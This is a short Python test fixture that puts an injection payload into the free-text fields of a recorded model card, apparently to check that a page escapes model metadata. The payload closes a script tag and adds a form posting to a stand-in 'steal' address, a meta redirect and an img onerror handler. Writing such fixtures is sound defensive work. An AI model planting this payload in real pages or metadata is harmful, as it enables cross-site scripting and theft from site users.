"""A model card written by an attacker: every free-text field the page shows is hostile."""

from __future__ import annotations

import copy
from typing import Any

MODEL = "distilbert/distilbert-base-uncased-finetuned-sst-2-english"
# Closes the JSON's <script>, then tries a form that posts elsewhere, a redirect and a script.
HOSTILE = (
    '</script><form id="pwn-form" action="http://127.0.0.2:9/steal" method="post">'
    '<button id="pwn">go</button></form><meta http-equiv="refresh" content="0;url=/api/info">'
    '<img id="pwn-img" src=x onerror="document.title=\'pwned\'"><!-- \u2028 & \u2029'
)


def hostile_info(recorded: dict[str, Any]) -> dict[str, Any]:
    """The recorded model info with HOSTILE in its library, licence, tags and examples."""
    info = copy.deepcopy(recorded)
    info["library_name"] = "transformers" + HOSTILE
    info["cardData"]["license"] = "mit" + HOSTILE
    info["tags"] = [*info["tags"], "license:x" + HOSTILE]
    info["widgetData"] = [
        {"text": "I like you. I love you.", "example_title": "nice" + HOSTILE},
        {"text": HOSTILE, "example_title": HOSTILE},
    ]
    return info
